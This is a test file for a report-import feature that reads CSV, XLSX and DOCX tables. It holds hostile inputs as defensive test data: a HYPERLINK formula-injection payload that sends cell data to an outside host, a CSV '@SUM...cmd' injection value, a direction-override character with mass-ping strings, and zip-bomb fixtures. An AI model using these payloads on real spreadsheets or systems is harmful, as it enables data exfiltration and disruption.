import { afterEach, beforeEach, expect, it, vi } from 'vitest';
import { HEAD_EXPRESSIONS } from '../../src/answers/heads.ts';
import { isRefusal } from '../../src/chat/refusal.ts';
import { readTables, tablesOf } from '../../src/documents/readTables.ts';
import { translate } from '../../src/i18n/index.ts';
import { type Desk, errorsOf, openDesk, textOf, told } from '../chat/desk.ts';
import { press } from '../chat/story.ts';
import { HOSTILE } from '../documents/hostile.ts';
import { makeDocx } from '../documents/makeDocx.ts';
import { makeXlsx } from '../documents/makeXlsx.ts';
import { HEADS } from './reports.ts';
import { file, freeze, handOver, preview, recorded, type Story, TEXTS, tellStory } from './work.ts';

// A thread begins for each document; on a busy machine that takes a while.
vi.setConfig({ testTimeout: 120_000 });

let desk: Desk;
let story: Story;
beforeEach(async () => {
  desk = await openDesk();
  story = await tellStory(desk);
  await freeze(desk, story);
});
afterEach(async () => {
  expect(desk.errors).toEqual([]);
  await desk.dispose();
});

const utf8 = (text: string) => new TextEncoder().encode(text);
/** What is said beside the file; nothing is recorded, and no source is kept. */
async function refusedFile(name: string, bytes: Uint8Array): Promise<string> {
  const said = errorsOf(await handOver(desk, story.number, file(name, bytes)));
  expect(Object.keys(said)).toEqual(['file']);
  expect(await desk.db.outcome.count()).toBe(0);
  expect(await desk.db.answerSource.count()).toBe(0);
  // What was typed beside it is kept for the next file.
  const row = await desk.db.unfinished.findFirstOrThrow({ where: { act: 'answer.import' } });
  expect(row).toMatchObject({ state: 'open', values: { title: 'Raporti' } });
  return said.file ?? '';
}

const head = HEADS.en;
const rowOf = (comment: string, status: string, reason: string) => [
  '1',
  'KCSF',
  'Article 5',
  comment,
  status,
  reason,
];

it('refuses 100,000 rows with a sentence, in every format that holds them', async () => {
  const row = rowOf('x', 'Accepted', 'y').join(';');
  const csv = utf8([head.join(';'), ...Array.from({ length: 100_000 }, () => row)].join('\n'));
  expect(await refusedFile('report.csv', csv)).toBe('The file has too many rows: at most 20000.');
  const docx = makeDocx([{ rows: Array.from({ length: 100_000 }, () => ['a']) }]);
  expect(await refusedFile('report.docx', docx)).toBe(
    'The file is too large or too intricate to be read.',
  );
});

it('refuses more rows than any report has before it matches them', async () => {
  const rows = Array.from({ length: 2_500 }, () => rowOf('regjistri publik', 'Accepted', 'y'));
  const bytes = makeXlsx([{ rows: [[...head], ...rows] }]);
  expect(await refusedFile('report.xlsx', bytes)).toBe('The file has too many rows: at most 2000.');
});

it('matches as many rows as it takes, and names only some of them', async () => {
  const rows = Array.from({ length: 1_900 }, (_one, index) =>
    rowOf(`${TEXTS.five} ${index}`, 'Accepted', 'y'),
  );
  const bytes = makeXlsx([{ rows: [[...head], ...rows] }]);
  const text = textOf(await preview(desk, story.number, file('report.xlsx', bytes)));
  expect(text).toContain('1900 unclear');
  expect(text).toContain('and 1890 more rows');
});

it('takes formulas for the letters that they are, and records them as such', async () => {
  const evil = '=HYPERLINK("https://example.org/?"&A1;"click")';
  const csv = utf8(
    [head.join(';'), rowOf(TEXTS.five, 'Rejected', '@SUM(1+1)*cmd').join(';')].join('\n'),
  );
  const shown = await preview(desk, story.number, file('report.csv', csv));
  expect(textOf(shown)).toContain('❌ Rejected – @SUM(1+1)*cmd');
  const cell = { xml: `<c t="str"><f>1+1</f><v>Accepted</v></c>` };
  const workbook = makeXlsx([
    { rows: [[...head], ['1', 'KCSF', 'Article 5', TEXTS.five, cell, evil]] },
  ]);
  const again = await preview(desk, story.number, file('report.xlsx', workbook));
  told(await press(desk, 'boss', 'office', again, 'answer.apply'));
  expect(await recorded(desk)).toEqual({ 'Neni 5': 'accepted' });
  expect(await desk.db.outcome.findFirst()).toMatchObject({ reason: evil });
});

it('reads the encodings of old spreadsheets, and refuses what is no text', async () => {
  const text = [HEADS.sq.join(';'), rowOf(TEXTS.five, 'Refuzuar', 'Pa para.').join(';')].join('\n');
  const old = Uint8Array.from(
    [...text].map((letter) => {
      const code = { ë: 0xeb, ç: 0xe7, Ë: 0xcb }[letter] ?? letter.charCodeAt(0);
      return code > 255 ? 63 : code;
    }),
  );
  expect(textOf(await preview(desk, story.number, file('old.csv', old)))).toContain(
    'K-001 ❌ Rejected',
  );
  const wide = new Uint8Array(Buffer.from(text, 'utf16le'));
  expect(await refusedFile('wide.csv', wide)).toMatch(/UTF-8|CSV/);
});

it('refuses a table without answers, and a document without a table', async () => {
  const expected = translate('en', 'answers.file.noTable');
  expect(await refusedFile('list.csv', utf8('Name;Town\nKCSF;Prishtina'))).toBe(expected);
  expect(await refusedFile('letter.docx', makeDocx(['Të nderuar', 'Faleminderit.']))).toBe(
    expected,
  );
});

it('records nothing of what would ping or cannot be shown', async () => {
  const csv = utf8(
    [head.join(';'), rowOf(TEXTS.five, 'Accepted', 'a\u202eb <!channel> @everyone').join(';')].join(
      '\n',
    ),
  );
  const shown = await preview(desk, story.number, file('report.csv', csv));
  told(await press(desk, 'boss', 'office', shown, 'answer.apply'));
  expect(await desk.db.outcome.findFirst()).toMatchObject({ reason: 'ab <!channel> @everyone' });
});

const PACKED = HOSTILE.filter(([name]) => /DOCX|PDF|zip|DOC|entit|tables|XML/.test(name));

it.each(PACKED)(
  '%s is refused with a sentence where tables are read',
  async (_name, _outcome, make) => {
    const read = await tablesOf(make(), HEAD_EXPRESSIONS);
    if (isRefusal(read)) {
      expect(read.refused).toMatch(/^(answers\.file\.|imports\.)/);
      expect(translate('en', read.refused, read.context)).toMatch(/[.]$/);
    } else {
      expect(read).toEqual({ tables: [], text: expect.any(String) });
      expect(read.text.length).toBeLessThan(100);
    }
  },
);

it('goes on reading after a file that troubled', async () => {
  const bomb = HOSTILE.find(([name]) => name === 'a zip bomb')?.[2] ?? (() => new Uint8Array());
  const good = makeDocx([{ rows: [[...head], rowOf(TEXTS.five, 'Accepted', 'y')] }]);
  const [first, second] = await Promise.all([
    readTables(bomb(), HEAD_EXPRESSIONS),
    readTables(good, HEAD_EXPRESSIONS),
  ]);
  expect(first).toMatchObject({ refused: 'answers.file.tooMuch' });
  expect(second).toMatchObject({ tables: [[expect.anything(), expect.anything()]] });
});
